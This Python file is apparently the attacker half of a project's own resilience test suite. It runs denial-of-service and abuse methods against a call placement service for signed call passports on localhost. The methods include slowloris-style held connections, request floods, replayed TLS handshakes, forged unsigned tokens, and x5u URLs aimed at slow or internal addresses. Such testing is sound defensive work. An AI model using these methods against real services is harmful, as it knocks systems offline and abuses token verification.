# SPDX-License-Identifier: MIT
"""The attacker of attack.sh: runs one way of attacking a CPS until its standard input ends, then says what it spent.

    attack_ways.py WAY MATERIAL    MATERIAL is a JSON file that attack_run.py writes

One process with one thread, which opens at most 50 connections per second. Its bandwidth is bounded by the network that
it runs in."""
import asyncio
import collections
import contextlib
import itertools
import json
import os
import random
import re
import resource
import socket
import ssl
import struct
import sys
import time
import uuid

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, os.path.join(HERE, "..", "integration"))

from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec, utils
from envelope import b64url, compact, envelope

CONNECTIONS_PER_S = 50
SEND_BUFFER = 32768  # octets: what a connection holds back that the network has not taken
HOST = "Host: localhost\r\n"
BOX = "12135550100"  # a number that nobody else has anything to do with


class Attacker:
    """What all ways have at hand: connections at a bounded rate, requests, tokens, counts."""

    def __init__(self, material):
        self.address, self.victim, self.slow = tuple(material["address"]), material["victim"], material["slow"]
        self.hellos = {name: bytes.fromhex(text) for name, text in material["hellos"].items()}
        self.x5c, self.odd_chains, self.used = material["x5c"], material["odd_chains"], material["used"]
        self.public_x5c, self.record, self.held = material["public_x5c"], material["record"], material["held"]
        self.key = serialization.load_pem_private_key(material["key"].encode(), None)
        self.context = ssl.create_default_context(cafile=material["ca"])
        self.count = collections.Counter()
        self.due, self.keep = 0.0, []

    # -- connections --

    async def turn(self):
        """Waits for the time at which the next connection may be opened."""
        self.due = max(self.due + 1 / CONNECTIONS_PER_S, time.monotonic() - 0.1)
        await asyncio.sleep(max(0, self.due - time.monotonic()))
        self.count["connections"] += 1

    async def socket(self, receive_buffer=None):
        await self.turn()
        sock = socket.socket()
        sock.setblocking(False)
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, SEND_BUFFER)
        if receive_buffer:
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)
        try:
            await asyncio.wait_for(asyncio.get_running_loop().sock_connect(sock, self.address), 10)
        except BaseException:
            sock.close()
            raise
        return sock

    async def tls(self, receive_buffer=None):
        sock = await self.socket(receive_buffer)
        opening = asyncio.open_connection(sock=sock, ssl=self.context, server_hostname="localhost")
        reader, writer = await asyncio.wait_for(opening, 20)
        writer.transport.set_write_buffer_limits(high=SEND_BUFFER)
        return reader, writer

    async def repeat(self, step, tasks):
        """Starts this number of tasks that each repeat the step, regardless of its result."""
        async def forever():
            while True:
                try:
                    await step()
                except (OSError, EOFError, asyncio.TimeoutError, ValueError):
                    self.count["broken"] += 1
                    await asyncio.sleep(0.02)

        await asyncio.gather(*(forever() for _ in range(tasks)))

    async def flood(self, make, connections=8, batch=1):
        """Sends requests on a few connections as fast as the network takes them; answers are read and counted."""
        async def step():
            reader, writer = await self.tls()
            answers = asyncio.create_task(self.read(reader))
            try:
                while not answers.done():
                    writer.write(b"".join(make() for _ in range(batch)))
                    await writer.drain()
                    await asyncio.sleep(0)
            finally:
                answers.cancel()
                writer.transport.abort()

        await self.repeat(step, connections)

    async def read(self, reader):
        while octets := await reader.read(65536):
            for status in re.findall(rb"HTTP/1\.1 (\d)\d\d ", octets):
                self.count[status.decode() + "xx"] += 1

    async def hold(self, octets, drip=None, receive_buffer=None, tasks=50, half=False):
        """Sends something on ever more connections and keeps them; `drip` is sent to each an octet a second."""
        async def step():
            reader, writer = await self.tls(receive_buffer)
            writer.write(octets)
            await writer.drain()
            if half:
                socket.socket.shutdown(socket.socket(fileno=os.dup(writer.get_extra_info("socket").fileno())), socket.SHUT_WR)
            self.keep.append(asyncio.create_task(self.stay(reader, writer, drip, read=receive_buffer is None)))

        await self.repeat(step, tasks)

    async def stay(self, reader, writer, drip, read):
        answers = asyncio.create_task(self.read(reader)) if read else None
        with contextlib.suppress(OSError):
            for octet in itertools.cycle(drip or b"\0"):
                if answers and answers.done():
                    break
                await asyncio.sleep(1)
                if drip:
                    writer.write(bytes([octet]))
        writer.transport.abort()

    async def be_slow(self):
        """The hosts at which an x5u is answered with nothing: all addresses of `slow`, which lead here."""
        async def silent(reader, writer):
            self.keep.append(writer)

        self.keep.append(await asyncio.start_server(silent, "0.0.0.0", 8443))

    def slow_address(self):
        return f"{self.slow}.{random.randrange(256)}.{random.randrange(1, 255)}"

    # -- requests --

    @staticmethod
    def request(method, path, body=None, **fields):
        if body is not None:
            fields = {"Content_Type": "application/passport", "Content_Length": len(body), **fields}
        lines = "".join(f"{name.replace('_', '-')}: {value}\r\n" for name, value in fields.items())
        return f"{method} {path} HTTP/1.1\r\n{HOST}{lines}\r\n{body or ''}".encode()

    def token(self, action, body=None, dest=None, header=None, key=None, **claims):
        dest = dest or BOX
        all_claims = {"iat": int(time.time()), "action": action, "iss": "5678", "spc": "5678", "aud": "cps.example.org",
                      "jti": str(uuid.uuid4()), "dest": {"tn": [dest]} if dest.isdigit() else None, **claims}
        if body is not None:
            digest = hashes.Hash(hashes.SHA256())
            digest.update(body.encode())
            all_claims["passports"] = b64url(digest.finalize())
        all_claims = {name: value for name, value in all_claims.items() if value is not None}
        head = {"alg": "ES256", **(header or {"x5u": "https://cert.example.org/hostile.pem"})}
        signed = f"{b64url(compact(head).encode())}.{b64url(compact(all_claims).encode())}"
        if key == "none":
            return f"{signed}.{b64url(b'' + os.urandom(64))}"
        r, s = utils.decode_dss_signature((key or self.key).sign(signed.encode(), ec.ECDSA(hashes.SHA256())))
        return f"{signed}.{b64url(r.to_bytes(32, 'big') + s.to_bytes(32, 'big'))}"

    def forged(self, header, **claims):
        """A publish whose token nobody signed."""
        body = envelope()
        token = self.token("publish", body, header=header, key="none", **claims)
        return self.request("POST", f"/cps/{BOX}/ppts", body, Authorization="Bearer " + token)

    def publish(self, dest=BOX, ttl=259200, size=512, body=None, **claims):
        body = envelope(size) if body is None else body
        token = self.token("publish", body, dest, **claims)
        return self.request("POST", f"/cps/{dest}/ppts?ttl={ttl}", body, Authorization="Bearer " + token)

    def retrieve(self, path, dest=BOX, action="retrieve", **fields):
        return self.request("GET", path, Authorization="Bearer " + self.token(action, dest=dest), **fields)


# ---- ways of a stranger ----

WAYS = {}


def way(name, config="default"):
    def add(function):
        WAYS[name] = (function, config)
        return function

    return add


def replay(name, group):
    @way(name)
    async def attack(a):
        async def step():
            sock = await a.socket()
            with sock:
                loop = asyncio.get_running_loop()
                await loop.sock_sendall(sock, random.choice([a.hellos[one] for one in group]))
                await asyncio.wait_for(loop.sock_recv(sock, 65536), 5)

        await a.repeat(step, 20)


for one in ("X25519", "P-256", "P-384"):
    replay(f"replayed ClientHello, {one}", [one])
replay("replayed ClientHello, ffdhe8192", ["ffdhe8192"])
replay("replayed ClientHellos, groups that are refused", ["ffdhe2048", "ffdhe3072", "ffdhe4096", "ffdhe6144", "P-521", "X448"])


def keep_open(name, octets):
    @way(name)
    async def attack(a):
        async def step():
            sock = await a.socket()
            await asyncio.get_running_loop().sock_sendall(sock, octets(a))
            a.keep.append(sock)

        await a.repeat(step, 20)


keep_open("handshakes that stop after ClientHello", lambda a: a.hellos["X25519"])
keep_open("handshakes that stop within ClientHello", lambda a: a.hellos["X25519"][:40])
keep_open("connections that stay silent", lambda a: b"")


@way("handshakes, and nothing else")
async def handshakes(a):
    async def step():
        _, writer = await a.tls()
        writer.transport.abort()

    await a.repeat(step, 20)


@way("connections that are reset")
async def resets(a):
    async def step():
        sock = await a.socket()
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        sock.close()

    await a.repeat(step, 20)


@way("no TLS, but HTTP and garbage")
async def no_tls(a):
    async def step():
        sock = await a.socket()
        with sock:
            loop = asyncio.get_running_loop()
            await loop.sock_sendall(sock, random.choice([a.request("GET", "/health"), os.urandom(2000), b"\x16\x03\x01\x40\x00" * 300]))
            await asyncio.wait_for(loop.sock_recv(sock, 65536), 5)

    await a.repeat(step, 20)


SLOW_BODY = f"POST /cps/{BOX}/ppts HTTP/1.1\r\n{HOST}Content-Type: application/passport\r\nContent-Length: 16000\r\n"

way("slow heads")(lambda a: a.hold(b"GET /health HTTP/1.1\r\n", drip=b"X-A: b\r\n"))
way("slow bodies")(lambda a: a.hold(SLOW_BODY.encode() + b"\r\n", drip=b"x"))
way("100-continue, and no body")(lambda a: a.hold(SLOW_BODY.encode() + b"Expect: 100-continue\r\n\r\n"))
way("connections that are idle")(lambda a: a.hold(b""))
way("half-closed after the request")(lambda a: a.hold(a.request("GET", f"/cps/{BOX}/ppts"), half=True))
way("readers that read nothing")(lambda a: a.hold(
    a.request("GET", f"/cps/{a.victim}/ppts", Accept="application/json") * 40, receive_buffer=2048))
way("many waits")(lambda a: a.hold(a.request("GET", f"/cps/{BOX}/ppts", Prefer="wait=30")))
way("waits at the victim's number")(lambda a: a.hold(a.request("GET", f"/cps/{a.victim}/ppts", Prefer="wait=30", Accept="application/json")))

way("random paths")(lambda a: a.flood(lambda: a.request("GET", f"/{random.getrandbits(64):x}"), batch=8))
way("lists of random numbers")(lambda a: a.flood(lambda: a.request("GET", f"/cps/1{random.randrange(10**10)}/ppts"), batch=8))
way("lists of a full box")(lambda a: a.flood(lambda: a.request("GET", f"/cps/{a.victim}/ppts", Accept="application/json"), batch=8))
way("envelopes of random ids")(lambda a: a.flood(lambda: a.request("GET", f"/cps/{BOX}/ppts/{b64url(os.urandom(16))}"), batch=8))
way("keys of random numbers")(lambda a: a.flood(lambda: a.request("GET", f"/keys/1{random.randrange(10**10)}"), batch=8))
way("prefix lists")(lambda a: a.flood(lambda: a.request("GET", f"/cps/1{random.randrange(10**6)}*/ppts"), batch=8))
way("feeds without a credential")(lambda a: a.flood(lambda: a.request("GET", "/feed/1234"), batch=8))
way("HEAD")(lambda a: a.flood(lambda: a.request("HEAD", f"/cps/{random.randrange(10**10)}/ppts"), batch=8))
way("pipelined requests, 40 octets each")(lambda a: a.flood(lambda: b"GET /cps/12/ppts HTTP/1.1\r\nHost: x\r\n\r\n", batch=50))
way("heads of 8,000 octets")(lambda a: a.flood(lambda: a.request("GET", "/health", X="y" * 7900)))
way("heads with 60 fields")(lambda a: a.flood(lambda: b"GET /health HTTP/1.1\r\nHost: x\r\n" + b"X:\r\n" * 60 + b"\r\n", batch=8))
way("bodies of a wrong type")(lambda a: a.flood(lambda: a.request("POST", f"/cps/{BOX}/ppts", "x" * 16000, Content_Type="text/plain")))
way("publishes without a credential")(lambda a: a.flood(lambda: a.request("POST", f"/cps/{BOX}/ppts", envelope())))
way("deletes and reports without a credential")(lambda a: a.flood(lambda: a.request("DELETE", f"/cps/{a.victim}/ppts/{b64url(os.urandom(16))}")
                                               + a.request("POST", f"/cps/{a.victim}/ppts/{b64url(os.urandom(16))}/report", ""), batch=4))
way("log lines: refused credentials")(lambda a: a.flood(lambda: a.request("GET", "/cps/12/ppts", Authorization="x"), batch=20))
way("log lines: malformed requests")(lambda a: malformed(a))
way("replayed tokens")(lambda a: a.flood(lambda: a.used.encode()))
way("unsigned tokens with x5c")(lambda a: a.flood(lambda: a.forged({"x5c": a.public_x5c}, iss="1234", spc="1234")))
way("unsigned tokens, each with an x5c of its own")(lambda a: a.flood(lambda: a.forged({"x5c": random.choice(a.odd_chains)})))
way("unsigned tokens with x5c and one certificate more")(lambda a: a.flood(
    lambda: a.forged({"x5c": a.public_x5c + [random.choice(a.odd_chains)[0]]}, iss="1234", spc="1234")))
way("unsigned tokens with the x5u of a provider")(lambda a: a.flood(
    lambda: a.forged({"x5u": "https://cert.example.org/sp.pem"}, iss="1234", spc="1234"), batch=4))
way("tokens of 8,000 octets, nested")(lambda a: a.flood(lambda: a.forged(None, x=deep(15), y="z" * 4000)))
way("unsigned tokens, each with an x5u at a slow host", "x5u")(lambda a: a.flood(
    lambda: a.forged({"x5u": f"https://{a.slow}.1.1:8443/{uuid.uuid4()}.pem"}), connections=50))
way("unsigned tokens, each with an x5u at one of many slow hosts", "x5u")(lambda a: a.flood(
    lambda: a.forged({"x5u": f"https://{a.slow_address()}:8443/{uuid.uuid4()}.pem"}), connections=50))
way("unsigned tokens with x5u of internal addresses")(lambda a: a.flood(
    lambda: a.forged({"x5u": f"https://10.{random.randrange(256)}.0.1/{uuid.uuid4()}.pem"}), batch=4))
way("publishes to one number, publishing open", "open")(lambda a: a.flood(
    lambda: a.request("POST", f"/cps/{BOX}/ppts?ttl=259200", envelope())))
way("publishes to the victim's number, publishing open", "open")(lambda a: a.flood(
    lambda: a.request("POST", f"/cps/{a.victim}/ppts?ttl=259200", envelope())))
way("publishes to random numbers, publishing open", "open")(lambda a: a.flood(
    lambda: a.request("POST", f"/cps/1{random.randrange(10**10)}/ppts?ttl=259200", envelope())))
way("idempotency keys, publishing open", "open")(lambda a: a.flood(lambda: a.request(
    "POST", f"/passports/{BOX}/12155551212", compact({"passports": [envelope()]}), Content_Type="application/json",
    Idempotency_Key=uuid.uuid4())))


def deep(levels):
    return [deep(levels - 1)] if levels else 1


async def malformed(a):
    async def step():
        reader, writer = await a.tls()
        writer.write(b"GET /\0 HTTP/1.1\r\n\r\n" * 20)
        await asyncio.wait_for(a.read(reader), 10)
        writer.transport.abort()

    await a.repeat(step, 20)


# ---- ways of a provider with a certificate ----

way("publishes to one number, ttl=259200", "provider")(lambda a: a.flood(a.publish))
way("publishes to the victim's number, ttl=259200", "provider")(lambda a: a.flood(lambda: a.publish(a.victim)))
way("publishes to random numbers, ttl=259200", "provider")(lambda a: a.flood(lambda: a.publish(f"1{random.randrange(10**10)}")))
way("publishes of 11,000 octets, ttl=259200", "provider")(lambda a: a.flood(lambda: a.publish(f"1{random.randrange(10**10)}", size=8192)))
way("odd envelopes", "provider")(lambda a: a.flood(lambda: a.publish(body=odd_envelope())))
way("the same token again and again", "provider")(lambda a: a.flood(always(a.publish())))
way("tokens that name another provider", "provider")(lambda a: a.flood(lambda: a.publish(iss="1234", spc="1234")))
way("many feeds", "provider")(lambda a: hold_fresh(a, lambda: a.retrieve("/feed/5678", dest="spc:5678")))
way("feeds that read nothing", "provider")(lambda a: hold_fresh(a, lambda: a.retrieve("/feed/5678", dest="spc:5678"), 2048))
way("many waits with tokens", "provider")(lambda a: hold_fresh(
    a, lambda: a.retrieve(f"/cps/{a.held}/ppts", a.held, Prefer="wait=30")))
way("prefix lists of its own numbers", "provider")(lambda a: a.flood(
    lambda: a.retrieve(f"/cps/{a.held[:7]}*/ppts", dest="spc:5678", Accept="application/json")))
way("lists of its own number without dummies", "provider")(lambda a: a.flood(
    lambda: a.retrieve(f"/cps/{a.held}/ppts?dummies=no", a.held, Accept="application/json")))
way("key records", "provider")(lambda a: a.flood(lambda: a.request(
    "PUT", "/keys/spc:5678", a.record, Content_Type="application/jwt",
    Authorization="Bearer " + a.token("keys", a.record, "spc:5678"))))
way("key records under random numbers", "provider")(lambda a: a.flood(lambda: put_random_key(a)))
way("republishing", "provider")(lambda a: a.flood(lambda: republish(a)))
way("reports of genuine envelopes", "provider")(lambda a: reports(a))


def always(octets):
    return lambda: octets


def odd_envelope():
    """Something like an envelope, wrong in a way that is found late."""
    head, key, iv, text, tag = envelope().split(".")
    return random.choice([
        ".".join([head, key, iv, text, tag[:-1] + "B"]),
        ".".join([b64url(compact({"alg": "ECDH-ES", "cty": "passport", "enc": "A256GCM",
                                  "epk": {"crv": "P-256", "kty": "EC", "x": b64url(os.urandom(32)),
                                          "y": b64url(os.urandom(32))}}).encode()), key, iv, text, tag]),
        ".".join([b64url(b'{"epk":' + b"[" * 1000 + b"]" * 1000 + b"}"), key, iv, text, tag]),
        "." * 500, "x" * 3000,
    ])  # fmt: skip


def put_random_key(a):
    number = f"1{random.randrange(10**10)}"
    return a.request("PUT", f"/keys/{number}", a.record, Content_Type="application/jwt",
                     Authorization="Bearer " + a.token("keys", a.record, number))


def republish(a):
    body = compact({"passports": [envelope()]})
    token = a.token("republish", body, orig={"tn": "12155551212"}, exp=int(time.time()) + 20)
    return a.request("POST", f"/passports/{BOX}/12155551212", body, Content_Type="application/json",
                     Authorization="Bearer " + token)


async def hold_fresh(a, make, receive_buffer=None):
    """Like Attacker.hold, with a request of its own for each connection."""
    async def step():
        reader, writer = await a.tls(receive_buffer)
        writer.write(make())
        await writer.drain()
        a.keep.append(asyncio.create_task(a.stay(reader, writer, None, read=receive_buffer is None)))

    await a.repeat(step, 20)


async def reports(a):
    """Lists what the legitimate client published for numbers of this provider, and reports each."""
    async def step():
        number = f"1200000{random.randrange(200):04}"
        reader, writer = await a.tls()
        writer.write(a.retrieve(f"/cps/{number}/ppts?dummies=no", number, Accept="application/json"))
        head = await asyncio.wait_for(reader.readuntil(b"\r\n\r\n"), 20)
        body = await reader.readexactly(int(re.search(rb"Content-Length: (\d+)", head)[1]))
        found = json.loads(body).get("ppts", []) if b" 200 " in head else []
        answers = asyncio.create_task(a.read(reader))
        for one in found[:100]:
            path = f"/cps/{number}/ppts/{one['id']}/report"
            writer.write(a.request("POST", path, "", Authorization="Bearer " + a.token("report", "", number)))
            await writer.drain()
        await asyncio.sleep(0.5)
        answers.cancel()
        writer.transport.abort()

    await a.repeat(step, 8)


async def attack(name, material):
    attacker = Attacker(material)
    await attacker.be_slow()
    loop = asyncio.get_running_loop()
    print("ready", flush=True)
    if not await loop.run_in_executor(None, sys.stdin.readline):
        return
    begin = time.process_time()
    task = asyncio.create_task(WAYS[name][0](attacker))
    await loop.run_in_executor(None, sys.stdin.read)
    spent = time.process_time() - begin
    print(json.dumps({"cpu_s": round(spent, 3), **attacker.count,
                      "error": repr(task.exception()) if task.done() and task.exception() else None}), flush=True)
    os._exit(0)  # there may be thousands of connections, which nobody needs to close one by one


def main():
    limit = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (limit, limit))
    with open(sys.argv[2]) as file:
        material = json.load(file)
    asyncio.run(attack(sys.argv[1], material))


if __name__ == "__main__":
    main()
